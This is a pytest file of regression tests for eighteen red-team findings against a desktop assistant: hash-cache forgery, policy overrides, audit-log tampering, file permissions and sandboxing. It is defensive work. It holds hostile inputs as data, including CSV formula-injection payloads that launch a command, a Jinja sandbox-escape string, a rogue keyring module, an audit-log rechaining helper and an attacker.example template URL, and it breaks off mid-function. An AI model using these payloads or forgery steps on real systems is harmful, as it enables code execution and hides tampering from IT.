"""Red-team findings F1–F18 (issue 14): each test replays the same-user attack
and checks that the promise to IT now holds. Names carry the finding number."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import stat
import subprocess
import sys
import time
from pathlib import Path

import pytest

from desk_assistant import deployment, paths
from desk_assistant.cli import main
from desk_assistant.errors import (
    AuditLogError,
    HashMismatchError,
    ModelNotAllowedError,
)
from desk_assistant.llm import integrity
from desk_assistant.llm.catalog import ModelInfo
from desk_assistant.llm.fake import FakeEngine
from desk_assistant.llm.runtime import open_model
from desk_assistant.security.audit import GENESIS, AuditLog, canonical, os_user
from desk_assistant.security.audit_mirror import FileMirror
from desk_assistant.security.policy import KNOWN_FEATURES, load_policy
from desk_assistant.settings import Settings

REPO = Path(__file__).resolve().parents[2]
CORPUS = REPO.parent / "shared" / "corpus"
KEY = bytes(range(32))


# -- helpers -------------------------------------------------------------------


def write_json(path: Path, data) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(data if isinstance(data, str) else json.dumps(data), encoding="utf-8")
    return path


@pytest.fixture
def machine_policy(tmp_path, monkeypatch):
    """A machine policy folder standing in for /etc/desk-assistant (and no registry)."""
    folder = tmp_path / "etc-desk-assistant"
    folder.mkdir()
    monkeypatch.setattr(deployment, "LINUX_POLICY_DIR", folder)
    monkeypatch.setattr(deployment, "MAC_POLICY_DIR", folder)
    monkeypatch.setattr(deployment, "_registry_policy_present", lambda: False)
    # Production ignores DESK_ASSISTANT_HOME: keep platformdirs inside the test folder.
    for var, sub in (
        ("HOME", "home"),
        ("XDG_DATA_HOME", "xdg-data"),
        ("XDG_CONFIG_HOME", "xdg-config"),
        ("XDG_CACHE_HOME", "xdg-cache"),
        ("XDG_STATE_HOME", "xdg-state"),
    ):
        monkeypatch.setenv(var, str(tmp_path / sub))
    return folder / "policy.json"


def model_file(tmp_path: Path, content: bytes) -> ModelInfo:
    path = tmp_path / "models" / "m.gguf"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(content)
    return ModelInfo(
        id="m", path=path, name="m", roles=("general",), prompt_format="few_shot", size=len(content)
    )


def rechain(log: AuditLog, records: list[dict], key: bytes) -> None:
    """What an attacker holding the key does after editing records: re-number, re-MAC,
    rewrite the head."""
    prev, lines = GENESIS, []
    for seq, record in enumerate(records, 1):
        record = dict(record, seq=seq, prev=prev)
        record["mac"] = log._mac(prev, record)
        prev = record["mac"]
        lines.append(json.dumps(record, ensure_ascii=False, separators=(",", ":")) + "\n")
    log.path.write_text("".join(lines), encoding="utf-8")
    if records:
        log._write_head(len(records), prev)
    assert all(isinstance(canonical(r), bytes) for r in records)


# -- F1: allow-list trusts the user-writable hash cache --------------------------


def test_F1_edited_hash_cache_does_not_let_an_unlisted_model_load(tmp_path):
    allowed = b"GGUF" + b"A" * 4096
    info = model_file(tmp_path, allowed)
    good = hashlib.sha256(allowed).hexdigest()
    policy = load_policy(
        [
            write_json(
                tmp_path / "p.json",
                {"RequireModelHash": True, "AllowedModels": [good], "AllowCatalogModels": False},
            )
        ]
    )
    settings = Settings()
    with open_model(info, settings, engine=FakeEngine("x"), policy=policy) as opened:
        assert opened.sha256 == good
    # The attack: same size, other content, mtime restored, cache claims the good hash.
    st = info.path.stat()
    time.sleep(0.05)
    info.path.write_bytes(b"GGUF" + b"B" * 4096)
    os.utime(info.path, ns=(st.st_atime_ns, st.st_mtime_ns))
    integrity.file_sha256(info.path)  # put an entry in the cache ...
    cache = json.loads(integrity._cache_file().read_text())
    for entry in cache.values():
        entry["sha256"] = good  # ... and forge it
    integrity._cache_file().write_text(json.dumps(cache))
    engine = FakeEngine("must not run")
    with pytest.raises(ModelNotAllowedError):
        open_model(info, settings, engine=engine, policy=policy)
    assert engine.prompts == []  # refused before the first token


def test_F1_same_size_replacement_with_restored_mtime_is_hashed_again(tmp_path):
    path = tmp_path / "m.gguf"
    path.write_bytes(b"GGUF" + b"A" * 1000)
    first = integrity.file_sha256(path)
    st = path.stat()
    time.sleep(0.05)
    path.write_bytes(b"GGUF" + b"B" * 1000)  # `cp evil.gguf m.gguf; touch -r backup m.gguf`
    os.utime(path, ns=(st.st_atime_ns, st.st_mtime_ns))
    assert integrity.cached_sha256(path) is None
    assert integrity.file_sha256(path) != first


def test_F1_catalog_model_with_wrong_content_is_refused_under_policy(tmp_path):
    info = model_file(tmp_path, b"GGUF" + b"C" * 100)
    info.entry = None
    policy = load_policy([write_json(tmp_path / "p.json", {"RequireModelHash": True})])

    class Listed(ModelInfo):
        @property
        def expected_sha256(self):
            return "0" * 64

    listed = Listed(
        **{k: getattr(info, k) for k in ("id", "path", "name", "roles", "prompt_format", "size")}
    )
    with pytest.raises(HashMismatchError):
        open_model(listed, Settings(), engine=FakeEngine("x"), policy=policy)


# -- F2: DESK_ASSISTANT_RESOURCES swaps the catalog ------------------------------


def test_F2_resources_override_is_ignored_in_production(tmp_path, machine_policy, monkeypatch):
    fake = tmp_path / "fake-resources"
    write_json(fake / "models" / "catalog.json", {"models": []})
    monkeypatch.setenv("DESK_ASSISTANT_RESOURCES", str(fake))
    assert paths.resources_dir() == fake  # a developer machine: the override works
    write_json(machine_policy, {"RequireModelHash": True})
    assert paths.resources_dir() != fake
    assert (paths.resources_dir() / "models" / "catalog.json").is_file()


def test_F2_frozen_build_ignores_resources_override(tmp_path, monkeypatch):
    monkeypatch.setattr(sys, "frozen", True, raising=False)
    monkeypatch.setenv("DESK_ASSISTANT_RESOURCES", str(tmp_path))
    assert paths.resources_dir() != tmp_path


# -- F3: user-controlled policy sources ------------------------------------------


@pytest.mark.skipif(os.name == "nt", reason="Windows reads the registry")
def test_F3_env_policy_cannot_fill_keys_it_left_unset(tmp_path, machine_policy, monkeypatch):
    write_json(machine_policy, {"RequireModelHash": True})
    rogue = write_json(
        tmp_path / "mine.json",
        {"AllowedModels": ["e" * 64], "LogDirectory": str(tmp_path / "elsewhere")},
    )
    monkeypatch.setenv("DESK_ASSISTANT_POLICY", str(rogue))
    policy = load_policy()
    assert policy.require_model_hash is True
    assert policy.allowed_models == () and policy.log_directory is None
    assert any("DESK_ASSISTANT_POLICY" in p for p in policy.problems)
    assert str(rogue) not in policy.sources


def test_F3_frozen_build_refuses_env_policy(tmp_path, monkeypatch, machine_policy):
    monkeypatch.setattr(sys, "frozen", True, raising=False)
    rogue = write_json(tmp_path / "mine.json", {"AllowedModels": ["e" * 64]})
    monkeypatch.setenv("DESK_ASSISTANT_POLICY", str(rogue))
    policy = load_policy()
    assert policy.allowed_models == () and not policy.present


def test_F3_policy_next_to_the_interpreter_is_never_read(tmp_path, monkeypatch, machine_policy):
    interpreter = tmp_path / "python" / "bin" / "python3"
    write_json(interpreter.parent / "policy.json", {"AllowedModels": ["e" * 64]})
    monkeypatch.setattr(sys, "executable", str(interpreter))
    monkeypatch.delenv("DESK_ASSISTANT_POLICY", raising=False)
    policy = load_policy()
    assert not policy.present and policy.allowed_models == ()


# -- F4: the user holds the audit key ------------------------------------------------


def audited_log(tmp_path: Path, n: int = 5) -> tuple[AuditLog, FileMirror]:
    mirror = FileMirror(tmp_path / "os-event-log" / "mirror.log")
    log = AuditLog(tmp_path / "logs" / "audit.jsonl", KEY, mirror)
    for i in range(n):
        log.append(task="translate", outcome="ok", input_sha256=f"{i:064x}")
    return log, mirror


def test_F4_record_removed_and_rechained_with_the_key_is_caught_by_the_mirror(tmp_path):
    log, _mirror = audited_log(tmp_path)
    records = log.records()
    rechain(log, records[:2] + records[3:], KEY)  # drop record 3, re-MAC the rest
    assert AuditLog(log.path, KEY).verify().ok  # the local chain alone is fooled ...
    result = log.verify()  # ... the OS event log copy is not
    assert not result.ok and result.reason in ("mirror", "rolled_back")
    assert result.seq == 3


def test_F4_deleted_log_and_head_are_caught_by_the_mirror(tmp_path):
    log, _mirror = audited_log(tmp_path)
    log.path.unlink()
    log.head_path.unlink()
    result = log.verify()
    assert not result.ok and result.reason == "deleted"
    assert "5" in result.message


def test_F4_restored_older_log_and_head_are_caught_by_the_mirror(tmp_path):
    log, _mirror = audited_log(tmp_path, 3)
    old_log, old_head = log.path.read_bytes(), log.head_path.read_bytes()
    log.append(task="summarize", outcome="ok")
    log.append(task="summarize", outcome="ok")
    log.path.write_bytes(old_log)
    log.head_path.write_bytes(old_head)
    assert AuditLog(log.path, KEY).verify().ok
    result = log.verify()
    assert not result.ok and result.reason == "rolled_back"


def test_F4_mirror_carries_no_file_names_and_verify_says_it_compared(tmp_path):
    log, mirror = audited_log(tmp_path, 2)
    log.append(task="translate", outcome="ok", output_path=tmp_path / "秘密の計画.docx")
    text = mirror.path.read_text(encoding="utf-8")
    assert "秘密" not in text and "\\u79d8" not in text
    result = log.verify()
    assert result.ok and result.mirror == 3 and "OS" in result.message


def test_F4_cli_verify_reports_a_deleted_log_from_the_mirror(tmp_path, monkeypatch, capsys):
    from desk_assistant.commands import audit as audit_cmd
    from desk_assistant.security import startup

    mirror = FileMirror(tmp_path / "mirror.log")
    monkeypatch.setattr(audit_cmd, "default_mirror", lambda: mirror)
    monkeypatch.setattr(startup, "default_mirror", lambda: mirror)
    monkeypatch.setenv(
        "DESK_ASSISTANT_POLICY",
        str(write_json(tmp_path / "p.json", {"AllowKeyringFallback": True})),
    )
    source = tmp_path / "in.txt"
    source.write_text("本文", encoding="utf-8")
    assert main(["extract", str(source)]) == 0
    assert main(["audit", "verify"]) == 0
    log_path = Path(capsys.readouterr().out.strip().rsplit(": ", 1)[-1])
    log_path.unlink()
    Path(str(log_path) + ".head").unlink()
    assert main(["audit", "verify"]) == 1
    assert "削除" in capsys.readouterr().out


# -- F5: unaudited commands, lock directory, killed jobs ----------------------------


def _security_env(tmp_path, monkeypatch, policy: dict) -> FileMirror:
    from desk_assistant.security import startup

    mirror = FileMirror(tmp_path / "mirror.log")
    monkeypatch.setattr(startup, "default_mirror", lambda: mirror)
    policy = {"AllowKeyringFallback": True, **policy}
    monkeypatch.setenv("DESK_ASSISTANT_POLICY", str(write_json(tmp_path / "p.json", policy)))
    return mirror


def _records(mirror: FileMirror) -> list[dict]:
    return mirror.read() or []


def test_F5_generate_is_refused_when_every_task_is_disabled(tmp_path, monkeypatch, capsys):
    _security_env(
        tmp_path, monkeypatch, {"DisabledFeatures": ["translate", "summarize", "proofread"]}
    )
    assert main(["generate", "--prompt", "hello"]) == 2
    assert "generate" in capsys.readouterr().err


def test_F5_generate_and_extract_leave_started_and_outcome_records(tmp_path, monkeypatch):
    from desk_assistant.commands import generate as generate_cmd
    from desk_assistant.llm.runtime import OpenModel

    mirror = _security_env(tmp_path, monkeypatch, {})
    info = model_file(tmp_path, b"GGUF")
    monkeypatch.setattr(generate_cmd, "resolve_model", lambda *a, **k: info)

    def fake_open(info, settings, policy=None):
        engine = FakeEngine("はい")
        return OpenModel(info, engine, engine.load(info.path), "f" * 64)

    monkeypatch.setattr(generate_cmd, "open_model", fake_open)
    assert main(["generate", "--prompt", "秘密の指示"]) == 0
    source = tmp_path / "in.txt"
    source.write_text("本文です", encoding="utf-8")
    assert main(["extract", str(source)]) == 0
    seen = [(e["task"], e["outcome"]) for e in _records(mirror)]
    assert seen == [
        ("generate", "started"),
        ("generate", "ok"),
        ("extract", "started"),
        ("extract", "ok"),
    ]


def test_F5_lock_path_that_is_a_folder_stops_the_task_before_it_runs(tmp_path):
    from desk_assistant.commands.common import AuditedTask

    log = AuditLog(tmp_path / "audit.jsonl", KEY)
    log.lock_path.mkdir(parents=True)

    class Security:
        audit = log

    ran = []
    with pytest.raises(AuditLogError) as info:
        with AuditedTask(Security(), "translate", None):
            ran.append(True)
    assert ran == []
    assert "lock path is a folder" in info.value.message("en")
    assert "フォルダー" in info.value.message("ja")


def test_F5_job_killed_after_streaming_still_left_a_record(tmp_path):
    code = f"""
import os, signal
from desk_assistant.security.audit import AuditLog
log = AuditLog({str(tmp_path / "audit.jsonl")!r}, bytes(range(32)))
job = log.start(task="generate", model_id="m")
print("streaming...", flush=True)
os.kill(os.getpid(), signal.SIGKILL)
"""
    proc = subprocess.run(
        [sys.executable, "-c", code],
        capture_output=True,
        timeout=60,
        env=dict(os.environ, PYTHONPATH=str(REPO)),
    )
    assert proc.returncode != 0
    log = AuditLog(tmp_path / "audit.jsonl", KEY)
    records = log.records()
    assert [(r["task"], r["outcome"]) for r in records] == [("generate", "started")]
    assert log.verify().ok


def test_F5_job_api_records_cancel_and_error_outcomes(tmp_path):
    from desk_assistant.errors import Cancelled

    log = AuditLog(tmp_path / "audit.jsonl", KEY)
    with pytest.raises(Cancelled):
        with log.start(task="translate"):
            raise Cancelled()
    with pytest.raises(ValueError):
        with log.start(task="summarize"):
            raise ValueError("本文を含むかもしれないメッセージ")
    job = log.start(task="proofread")
    job.finish("findings", output_path=tmp_path / "o.docx")
    job.finish("ok")  # only the first outcome counts
    got = [(r["task"], r["outcome"], r["error"]) for r in log.records()]
    assert got == [
        ("translate", "started", None),
        ("translate", "cancelled", None),
        ("summarize", "started", None),
        ("summarize", "error", "ValueError"),
        ("proofread", "started", None),
        ("proofread", "findings", None),
    ]
    jobs = [r["job"] for r in log.records()]
    assert jobs[0] == jobs[1] != jobs[2] == jobs[3]
    assert "本文" not in log.path.read_text(encoding="utf-8")


# -- F6: LOGNAME and DESK_ASSISTANT_HOME -------------------------------------------------


@pytest.mark.skipif(os.name == "nt", reason="POSIX account API")
def test_F6_logname_does_not_change_the_recorded_user(tmp_path, monkeypatch):
    import pwd

    real = pwd.getpwuid(os.geteuid()).pw_name
    for var in ("LOGNAME", "USER", "LNAME", "USERNAME"):
        monkeypatch.setenv(var, "mallory")
    assert os_user() == real
    log = AuditLog(tmp_path / "a.jsonl", KEY)
    assert log.append(task="t", outcome="ok")["user"] == real
    from desk_assistant.security.audit import default_audit_path

    assert "mallory" not in default_audit_path().name


def test_F6_desk_assistant_home_cannot_move_log_and_key_in_production(
    tmp_path, machine_policy, monkeypatch
):
    from desk_assistant.security import keys
    from desk_assistant.security.audit import default_audit_path

    write_json(machine_policy, {"RetentionDays": 30})
    monkeypatch.setenv("DESK_ASSISTANT_HOME", str(tmp_path / "mine"))
    assert not str(default_audit_path()).startswith(str(tmp_path / "mine"))
    assert not str(keys.fallback_key_path(keys.AUDIT_KEY)).startswith(str(tmp_path / "mine"))


# -- F7 / F16: shared LogDirectory, file modes -------------------------------------------


@pytest.mark.skipif(os.name == "nt", reason="POSIX modes and symlinks")
def test_F7_planted_symlink_in_a_shared_log_directory_is_refused(tmp_path):
    shared = tmp_path / "shared-logs"
    shared.mkdir()
    stolen = tmp_path / "attacker-owned.txt"
    stolen.write_text("", encoding="utf-8")
    log = AuditLog(shared / "audit-victim.jsonl", KEY)
    log.path.symlink_to(stolen)
    with pytest.raises(AuditLogError) as info:
        log.append(task="translate", outcome="ok", output_path="/secret/計画.docx")
    assert stolen.read_text(encoding="utf-8") == ""
    assert (
        "symbolic link" in info.value.message("en") and "シンボリックリンク" in info.value.message()
    )


@pytest.mark.skipif(not hasattr(os, "geteuid") or os.geteuid() != 0, reason="needs root to chown")
def test_F7_log_precreated_by_another_user_is_refused(tmp_path):
    log = AuditLog(tmp_path / "audit-victim.jsonl", KEY)
    log.path.write_text("", encoding="utf-8")
    os.chown(log.path, 12345, 12345)
    with pytest.raises(AuditLogError) as info:
        log.append(task="translate", outcome="ok")
    assert "another user" in info.value.message("en")


@pytest.mark.skipif(os.name == "nt", reason="POSIX modes")
def test_F16_audit_log_and_crash_log_are_owner_only(tmp_path, monkeypatch):
    old = os.umask(0o022)
    try:
        log = AuditLog(tmp_path / "logs" / "audit.jsonl", KEY)
        log.append(task="translate", outcome="ok", output_path="/secret/計画.docx")
        for path in (log.path, log.head_path, log.lock_path):
            assert stat.S_IMODE(path.stat().st_mode) == 0o600, path
        # A log someone loosened is tightened at the next record.
        os.chmod(log.path, 0o644)
        log.append(task="translate", outcome="ok")
        assert stat.S_IMODE(log.path.stat().st_mode) == 0o600
        from desk_assistant import cli

        try:
            raise RuntimeError("boom /secret/計画.docx")
        except RuntimeError:
            crash = Path(cli._write_crash_log())
        assert stat.S_IMODE(crash.stat().st_mode) == 0o600
    finally:
        os.umask(old)


# -- F8: CSV export -------------------------------------------------------------------------


def test_F8_csv_export_neutralises_formulas_and_control_characters(tmp_path, capsys):
    from desk_assistant.commands.audit import _to_csv

    hostile = [
        {
            "seq": 1,
            "task": '=HYPERLINK("http://x","y")',
            "output_path": "+cmd|' /C calc'!A0",
            "error": "-2+3",
            "user": "@SUM(A1)",
            "host": "\tTAB",
            "model_id": "\rCR",
            "app_version": "a\nb\x1b[31mred",
            "duration_s": -1.5,
        },
    ]
    text = _to_csv(hostile)
    row = next(csv.DictReader(io.StringIO(text)))
    for field in ("task", "output_path", "error", "user", "host", "model_id"):
        assert row[field].startswith("'"), (field, row[field])
    assert "\x1b" not in text and "a\nb" not in text and "\\x1b" in row["app_version"]
    assert row["seq"] == "1" and row["duration_s"] == "-1.5"
    assert text.count("\r\n") == 2  # header + one row: no raw line breaks inside cells


# -- F9 (the part owned here): a malformed DisabledFeatures fails closed --------------------


def test_F9_malformed_disabled_features_disables_everything(tmp_path):
    policy = load_policy([write_json(tmp_path / "p.json", {"DisabledFeatures": {"x": 1}})])
    assert policy.malformed
    assert all(not policy.feature_enabled(f) for f in KNOWN_FEATURES)
    assert any("DisabledFeatures" in p for p in policy.problems)


# -- F15: hostile policy.json ----------------------------------------------------------------


def test_F15_deeply_nested_policy_is_a_problem_not_a_crash(tmp_path, capsys, monkeypatch):
    deep = tmp_path / "p.json"
    deep.write_text("[" * 100_000 + "]" * 100_000, encoding="utf-8")
    policy = load_policy([deep])
    assert policy.malformed and policy.require_model_hash is True
    assert "nested" in " ".join(policy.problems) or "入れ子" in " ".join(policy.problems)
    monkeypatch.setenv("DESK_ASSISTANT_POLICY", str(deep))
    assert main(["audit", "export"]) in (0, 1, 3)  # a normal command still runs
    assert "RecursionError" not in capsys.readouterr().err


def test_F15_case_variant_duplicate_key_cannot_turn_the_hash_check_off(tmp_path):
    path = tmp_path / "p.json"
    path.write_text('{"RequireModelHash": true, "requiremodelhash": false}', encoding="utf-8")
    policy = load_policy([path])
    assert policy.require_model_hash is True and policy.malformed
    assert any("requiremodelhash" in p for p in policy.problems)


# -- F10 / F13: user keyring configuration, child processes, guard log (production) ----------

PROBE = Path(__file__).with_name("production_probe.py")
EVIL_KEYRING = """
from pathlib import Path
from keyring.backend import KeyringBackend

Path(__file__).with_name("evil-loaded").write_text("yes")


class Keyring(KeyringBackend):
    priority = 100
    store = {}

    def get_password(self, service, username):
        return self.store.get((service, username))

    def set_password(self, service, username, password):
        self.store[(service, username)] = password

    def delete_password(self, service, username):
        self.store.pop((service, username), None)
"""


def run_production_probe(tmp_path: Path, policy: dict | None, **extra_env) -> dict:
    etc = tmp_path / "etc"
    etc.mkdir(exist_ok=True)
    if policy is not None:
        write_json(etc / "policy.json", policy)
    user_code = tmp_path / "user-code"
    user_code.mkdir(exist_ok=True)
    (user_code / "evil_keyring.py").write_text(EVIL_KEYRING, encoding="utf-8")
    config = tmp_path / "xdg-config"
    write_json(
        config / "python_keyring" / "keyringrc.cfg",
        "[backend]\ndefault-keyring=evil_keyring.Keyring\n",
    )
    env = {
        k: v
        for k, v in os.environ.items()
        if not k.startswith(("DESK_ASSISTANT_", "XDG_")) and k != "HOME"
    }
    env.update(
        HOME=str(tmp_path / "home"),
        XDG_CONFIG_HOME=str(config),
        XDG_DATA_HOME=str(tmp_path / "xdg-data"),
        XDG_CACHE_HOME=str(tmp_path / "xdg-cache"),
        XDG_STATE_HOME=str(tmp_path / "xdg-state"),
        PYTHONPATH=os.pathsep.join([str(REPO), str(user_code)]),
        PYTHON_KEYRING_BACKEND="evil_keyring.Keyring",
        DESK_ASSISTANT_PRODUCTION="1",
        DESK_ASSISTANT_LANG="en",
        **extra_env,
    )
    done = subprocess.run(
        [sys.executable, str(PROBE), str(etc)],
        capture_output=True,
        text=True,
        env=env,
        timeout=180,
    )
    assert done.returncode == 0, done.stderr
    result = json.loads(done.stdout.strip().splitlines()[-1])
    result["evil_marker"] = (user_code / "evil-loaded").exists()
    return result


@pytest.mark.skipif(sys.platform != "linux", reason="Secret Service / ldconfig are Linux")
def test_F10_F13_user_keyring_config_is_ignored_and_no_program_is_started(tmp_path):
    result = run_production_probe(
        tmp_path, {"AllowKeyringFallback": False}, DESK_ASSISTANT_GUARD_LOG="/dev/null"
    )
    assert result["production"] is True
    # F10: neither keyringrc.cfg nor PYTHON_KEYRING_BACKEND loaded the user's module, and
    # with no OS keyring and no fallback allowed, the key is refused (not "keyring").
    assert not result["evil_marker"] and not result["user_backend_loaded"]
    assert result["key"] == "KeyringUnavailableError"
    assert "SecretService" in result["backend"]
    # F13: nothing was started while probing keys; spawning is refused; the engine
    # child (multiprocessing spawn) still starts.
    assert result["spawned_at_startup"] == []
    assert result["subprocess"] == "ProcessBlockedError"
    assert result["os.system"] == "ProcessBlockedError"
    assert result["find_library"] is None
    assert isinstance(result["engine_pid"], int)
    # F13: the user's DESK_ASSISTANT_GUARD_LOG=/dev/null does not hide refused attempts.
    assert result["guard_log"] not in (None, "/dev/null")
    assert result["env_guard_log"] == result["guard_log"]


@pytest.mark.skipif(sys.platform != "linux", reason="Secret Service is Linux")
def test_F10_fallback_where_policy_allows_it_is_a_file_not_the_users_backend(tmp_path):
    result = run_production_probe(tmp_path, {"AllowKeyringFallback": True})
    assert result["key"] == "file" and not result["evil_marker"]


def test_F10_fallback_warning_is_shown_once_per_login_session(tmp_path, monkeypatch):
    from desk_assistant.security import keys, startup
    from desk_assistant.security.policy import Policy

    monkeypatch.setattr(
        keys, "_keyring_get", lambda name: (_ for _ in ()).throw(keys._NoKeyring("none"))
    )
    shown: list[str] = []
    for _command in range(3):  # three CLI runs in one login session
        ctx = startup.secure_startup(None, policy=Policy(), on_warning=shown.append)
        ctx.key(keys.AUDIT_KEY)
        assert ctx.warnings  # always in selftest's report
    assert len(shown) == 1
    monkeypatch.setattr(keys, "login_session_id", lambda: "next-login")
    ctx = startup.secure_startup(None, policy=Policy(), on_warning=shown.append)
    ctx.key(keys.AUDIT_KEY)
    assert len(shown) == 2


# -- selftest --report lists the controls ---------------------------------------------------


def test_selftest_report_lists_every_new_control(tmp_path, monkeypatch):
    monkeypatch.setenv(
        "DESK_ASSISTANT_POLICY",
        str(
            write_json(
                tmp_path / "p.json", {"AllowKeyringFallback": True, "RequireModelHash": True}
            )
        ),
    )
    report_path = tmp_path / "report.json"
    main(
        ["selftest", "--report", str(report_path)]
    )  # no model here: the steps fail, the report stays
    controls = json.loads(report_path.read_text(encoding="utf-8"))["security"]["controls"]
    assert controls["model_hash_at_every_load"] is True
    assert controls["model_hash_cache_trusted_for_allow_list"] is False
    assert controls["production"] is False and controls["env_overrides_ignored"] == []
    assert "DESK_ASSISTANT_POLICY" in controls["env_overrides_set"]
    assert controls["audit_mirror"] in ("syslog", "windows-event-log")
    assert controls["audit_user_source"] == "os-account"
    assert controls["csv_export_neutralised"] is True
    assert "child_processes_refused" in controls and "keyring_backend_selection" in controls


# -- F14: template and generation time limits; no document text in child errors -------------

SECRET = "機密センチネル文字列XYZZY"


def test_F14_nested_loop_chat_template_stops_at_its_time_limit():
    from desk_assistant.errors import TemplateTimeoutError
    from desk_assistant.llm.prompts import render_chat_template

    hostile = "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}"
    started = time.monotonic()
    with pytest.raises(TemplateTimeoutError):
        render_chat_template(hostile, [{"role": "user", "content": "x"}], "", "", time_limit=0.5)
    assert time.monotonic() - started < 10
    # An ordinary template still renders, with range.
    text, _ = render_chat_template(
        "{% for m in messages %}{{ m.content }}{% endfor %}{% for i in range(2) %}{{ i }}{% endfor %}",
        [{"role": "user", "content": "本文"}],
        "",
        "",
    )
    assert text == "本文01"


def test_F14_chat_template_stays_sandboxed():
    from jinja2.exceptions import SecurityError

    from desk_assistant.llm.prompts import render_chat_template

    with pytest.raises(SecurityError):
        render_chat_template(
            "{{ ''.__class__.__mro__[1].__subclasses__() }}",
            [{"role": "user", "content": "x"}],
            "",
            "",
        )


def test_F14_hung_generation_is_killed_at_the_first_token_limit(tmp_path, monkeypatch):
    from desk_assistant.errors import GenerationTimeoutError
    from desk_assistant.llm.engine import GenerationParams
    from desk_assistant.llm.host import ProcessEngine

    monkeypatch.syspath_prepend(str(REPO / "tests" / "llm"))  # the spawned child imports it too
    import scripted_children

    model = tmp_path / "m.gguf"
    model.write_bytes(b"GGUF" + b"\0" * 64)
    engine = ProcessEngine(child_target=scripted_children.hang_on_generate, first_token_timeout=2)
    try:
        engine.load(model)
        started = time.monotonic()
        with pytest.raises(GenerationTimeoutError) as info:
            list(engine.stream("prompt", GenerationParams(max_tokens=4)))
        assert time.monotonic() - started < 30
        assert not engine.alive()  # the hung child was killed
        assert "2" in info.value.message("en")
    finally:
        engine.close()


def test_F14_template_raise_exception_never_carries_document_text():
    from desk_assistant.llm.host import ProcessEngine
    from desk_assistant.llm.worker import _Worker

    class Conn:
        def __init__(self) -> None:
            self.sent: list = []

        def send(self, msg) -> None:
            self.sent.append(msg)

    class Model:
        def add_bos_token(self) -> bool:
            return False

    class Llm:
        metadata = {"tokenizer.chat_template": "{{ raise_exception(messages[0]['content']) }}"}
        _model = Model()

        def token_bos(self) -> int:
            return -1

        def token_eos(self) -> int:
            return -1

    conn = Conn()
    worker = _Worker(conn)
    worker.llm = Llm()
    worker.generate(1, [{"role": "user", "content": SECRET}], {"max_tokens": 4})
    assert conn.sent == [("error", "template", "ValueError")]
    error = ProcessEngine()._generation_error("template", "ValueError")
    assert SECRET not in error.message("ja") and SECRET not in error.message("en")


def test_F14_uncaught_child_exception_prints_no_document_text():
    code = (
        "from desk_assistant.llm.worker import _quiet_tracebacks\n"
        "_quiet_tracebacks()\n"
        f"raise ValueError({SECRET!r})\n"
    )
    done = subprocess.run(
        [sys.executable, "-c", code],
        capture_output=True,
        text=True,
        timeout=60,
        env=dict(os.environ, PYTHONPATH=str(REPO)),
    )
    assert done.returncode != 0 and "ValueError" in done.stderr
    assert SECRET not in done.stderr and "Traceback" not in done.stderr


# -- F17: long names, read-only folders, dangling links, bad vault blobs ----------------------


def test_F17_long_japanese_file_name_saves_or_says_why(tmp_path):
    from desk_assistant.errors import FileNameTooLongError
    from desk_assistant.fileio import atomic_write_text

    fits = tmp_path / ("予算編成方針について" * 8 + ".csv")  # 80 characters, 244 bytes
    atomic_write_text(fits, "ok")  # the temp file's name used to pass 255 bytes
    assert fits.read_text(encoding="utf-8") == "ok"
    assert [p.name for p in tmp_path.iterdir()] == [fits.name]  # no temp file left
    too_long = tmp_path / ("予算編成方針について" * 9 + ".csv")
    with pytest.raises(FileNameTooLongError) as info:
        atomic_write_text(too_long, "x")
    assert "274" in info.value.message("en") and "-o" in info.value.message("ja")


def test_F17_long_name_through_the_cli_is_a_message_not_an_internal_error(
    tmp_path, monkeypatch, capsys
):
    _security_env(tmp_path, monkeypatch, {})
    source = tmp_path / "in.txt"
    source.write_text("本文", encoding="utf-8")
    assert main(["extract", str(source)]) == 0
    capsys.readouterr()
    code = main(["audit", "export", "-o", str(tmp_path / ("長" * 90 + ".csv"))])
    err = capsys.readouterr().err
    assert code == 3 and "長すぎ" in err and "内部エラー" not in err


def test_F17_read_only_folder_and_dangling_link_get_specific_errors(tmp_path):
    from desk_assistant.errors import OutputNotWritableError
    from desk_assistant.fileio import atomic_write_text

    dangling = tmp_path / "out"
    dangling.symlink_to(tmp_path / "gone")
    with pytest.raises(OutputNotWritableError):
        atomic_write_text(dangling / "a.csv", "x")
    not_a_folder = tmp_path / "file"
    not_a_folder.write_text("", encoding="utf-8")
    with pytest.raises(OutputNotWritableError):
        atomic_write_text(not_a_folder / "a.csv", "x")
    read_only = Path("/sys")  # read-only even for root in a container
    if os.access(read_only, os.W_OK) and os.name != "posix":
        pytest.skip("no read-only folder here")
    try:
        atomic_write_text(read_only / "desk-assistant-test.csv", "x")
    except OutputNotWritableError as err:
        assert "/sys" in err.message("en")
    else:  # pragma: no cover - a writable /sys
        (read_only / "desk-assistant-test.csv").unlink()
        pytest.skip("/sys is writable here")


def test_F17_undecryptable_vault_blob_is_quarantined_with_a_recovery_hint(tmp_path):
    from desk_assistant.errors import VaultNotFoundError, VaultQuarantinedError
    from desk_assistant.security.vault import Vault
    from desk_assistant.tasks.translate.memory import VaultStore

    vault = Vault(tmp_path / "vault", KEY)
    path = vault.put_json("tm/ja-en", {"entries": {}})
    path.write_bytes(path.read_bytes()[:-1] + b"\0")  # one flipped byte
    store = VaultStore(vault, "tm/ja-en")
    with pytest.raises(VaultQuarantinedError) as info:
        store.load()
    text = info.value.message("en")
    assert "quarantine" in text and path.name in text and "move the file back" in text
    assert not path.exists() and list((vault.root / "quarantine").iterdir())
    assert store.load() == {}  # the next task runs (with an empty memory)
    with pytest.raises(VaultNotFoundError):
        vault.get("tm/ja-en")


# -- F18: outputs fetch nothing; escape sequences in names are not printed raw ------------------

EVIL_URL = "http://attacker.example/template.dotm"


def hostile_docx(tmp_path: Path) -> Path:
    """A real corpus .docx given an external attached template and a linked image."""
    import shutil
    import zipfile

    source = tmp_path / "hostile.docx"
    if not (CORPUS / "docx07_gif_499_faq_short.docx").exists():
        pytest.skip("corpus file docx07_gif_499_faq_short.docx not available")
    shutil.copy(CORPUS / "docx07_gif_499_faq_short.docx", source)
    with zipfile.ZipFile(source) as archive:
        parts = {i.filename: archive.read(i) for i in archive.infolist()}
    rels_ns = "http://schemas.openxmlformats.org/package/2006/relationships"
    type_base = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
    parts["word/_rels/settings.xml.rels"] = (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
